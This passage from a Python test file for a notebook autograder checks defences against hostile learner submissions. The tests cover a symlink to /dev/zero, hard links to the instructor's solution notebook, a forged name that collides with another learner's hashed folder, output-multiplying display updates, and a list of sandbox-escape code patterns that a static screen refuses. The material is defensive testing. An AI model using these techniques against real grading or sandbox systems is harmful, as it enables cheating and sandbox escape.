    odd = Path(os.fsdecode(bytes(subs) + b"/odd_\xff\n"))
    odd.mkdir()
    os.symlink("/dev/zero", odd / NB)
    lines: list[str] = []
    started = time.monotonic()
    grade_submissions(subs, src, out, limits=Limits(sandbox=False), log=lines.append)
    assert time.monotonic() - started < 120  # a bound, not a timing: /dev/zero never ends
    with open(out / "grades.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    statuses = {(r["learner"], r["exercise"]): r["status"] for r in rows}
    learners = ["extras", "link", "many", "nested", "odd_\\xff\\n", "proc_mem", "surrogate"]
    assert sorted({learner for learner, _ in statuses}) == learners
    assert len(rows) == 2 * len(learners)
    for (learner, _), status in statuses.items():
        assert status == ("missing" if learner == "extras" else "invalid-notebook")
    assert {r["points"] for r in rows} == {"0"}
    assert sorted(p.name for p in (out / "feedback").iterdir()) == sorted(
        set(learners) - {"extras"}
    )
    assert any(
        "odd_\\xff\\n/01_target.ipynb: invalid notebook (the file is a symbolic" in line
        for line in lines
    )


# ------------------------------------------------------------- the second outside attack


def test_a_name_that_looks_hashed_cannot_take_another_learners_feedback_folder():
    victim = "victim_" + "v" * 130  # cut and hashed: longer than MAX_FOLDER_BYTES
    digest = hashlib.sha256(victim.encode()).hexdigest()[:12]
    impostor = f"{victim[:60]}-{digest}"  # short, and exactly the victim's folder name
    assert grade_module.feedback_folder(victim) == impostor  # the attack's premise
    assert grade_module.feedback_folder(impostor) != impostor
    names = [victim, impostor, "alice", "a" * 200, "a" * 201, f"{'a' * 60}-{'0' * 12}"]
    assert len({grade_module.feedback_folder(n) for n in names}) == len(names)


def test_display_updates_cannot_multiply_an_output_past_the_caps():
    """nbclient copies an update into every output of its display id, past ``output()``."""
    from nbclient import NotebookClient
    from nbformat.v4 import new_output

    from siamese_grading._worker import CappedClient

    def message(kind: str, text: str) -> dict:
        content = {"data": {"text/plain": text}, "metadata": {}, "transient": {"display_id": "b"}}
        header = {"msg_type": kind}
        return {"msg_type": kind, "header": header, "parent_header": {}, "content": content}

    results = {}
    for client_class in (NotebookClient, CappedClient):
        nb = new_notebook(cells=[new_code_cell("")])
        kwargs = {"max_cell_output": 2**20} if client_class is CappedClient else {}
        client = client_class(nb, **kwargs)
        client.reset_execution_trackers()
        client.clear_before_next_output = False  # as execute_cell sets it for each cell
        outs = nb.cells[0].outputs
        for _ in range(50):
            client.output(outs, message("display_data", "x"), "b", 0)
        client._update_display_id("b", message("update_display_data", "A" * 2**20))
        results[client_class.__name__] = sum(len(o["data"]["text/plain"]) for o in outs)
        assert all(o["output_type"] == new_output("display_data")["output_type"] for o in outs)
    assert results["NotebookClient"] == 50 * 2**20  # the attack: 50 MiB out of 1 MiB sent
    assert results["CappedClient"] == 50  # each display as first shown


def test_hard_links_to_the_source_or_to_another_learner_are_refused(tmp_path, monkeypatch):
    src, student_dir, site = make_course(tmp_path)
    monkeypatch.setenv("PYTHONPATH", str(site))
    student = nbformat.read(student_dir / NB, as_version=4)
    subs, out = tmp_path / "submissions", tmp_path / "out"
    for name in ("thief", "copycat", "copied", "honest"):
        (subs / name).mkdir(parents=True)
    os.link(src / NB, subs / "thief" / NB)
    both = {"add": ANSWERS["ex1_1_add"], "mul": ANSWERS["ex1_2_mul"]}
    nbformat.write(learner_notebook(student, **both), subs / "copied" / NB)
    os.link(subs / "copied" / NB, subs / "copycat" / NB)
    nbformat.write(learner_notebook(student, **both), subs / "honest" / NB)
    assert (subs / "thief" / NB).read_bytes() == (src / NB).read_bytes()  # it is the source
    grade_submissions(subs, src, out, limits=Limits(sandbox=False), log=lambda line: None)
    with open(out / "grades.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    verdict = {(r["learner"], r["exercise"]): (r["status"], r["points"]) for r in rows}
    messages = {r["learner"]: r["message"] for r in rows}
    for exercise in EXERCISES:
        assert verdict[("honest", exercise)] == ("passed", "1")
        for learner in ("thief", "copycat", "copied"):
            assert verdict[(learner, exercise)] == ("invalid-notebook", "0")
    assert "the instructor's notebook itself" in messages["thief"]
    assert "the same file as another learner's" in messages["copycat"]
    page = (out / "feedback" / "thief" / NB.replace(".ipynb", ".html")).read_text()
    assert "BEGIN SOLUTION" not in page


@pytest.mark.parametrize(
    ("code", "why"),
    [
        ("class S:\n    self = np\n    self.isclose = None\n", "binds 'self'"),
        ("class S:\n    cls = checks\n", "binds 'cls'"),
        (
            "def f():\n    try:\n        pass\n    except Exception as self:\n        pass\n",
            "'self'",
        ),
        ("def f():\n    import numpy as self\n", "binds 'self' to a module"),
        ("def f(e):\n    return '{0.__traceback__}'.format(e)\n", "looks attributes up"),
        ("def f(e):\n    return '{0[x]}'.format(e)\n", "looks attributes up"),
        ("def f(e):\n    return '{:{0.x}}'.format(e)\n", "looks attributes up"),
        ("def f(t, e):\n    return t.format(e)\n", "other than a string literal"),
        ("def f(t, e):\n    return t.format_map(e)\n", ".format_map"),
        ("import string\nclass S:\n    R = string.Formatter()\n", ".Formatter"),
        ("import operator\nclass S:\n    g = operator.attrgetter('x')\n", ".attrgetter"),
    ],
)
def test_the_screen_refuses_the_ways_around_it_that_outside_attacks_used(code, why):
    """A first line only (no guarantee depends on it), but no longer open by these doors."""
    result = screen(code, Policy(modules=frozenset({"numpy", "string", "operator"})))
    assert any(why in problem for problem in result.refused), result.refused


@pytest.mark.parametrize(
    "code",
    [
        "def f(x):\n    return 'loss {:.3f}, {} steps'.format(x, 2)\n",
        "class L:\n    def __init__(self, a):\n        self.a = a\n",
        "class L:\n    @classmethod\n    def make(cls):\n        return cls()\n",
        "def f(x):\n    return f'{x:.2f}'\n",
    ],
)
def test_the_screen_still_accepts_ordinary_code(code):
    result = screen(code, Policy())
    assert result.refused == [] and result.error is None
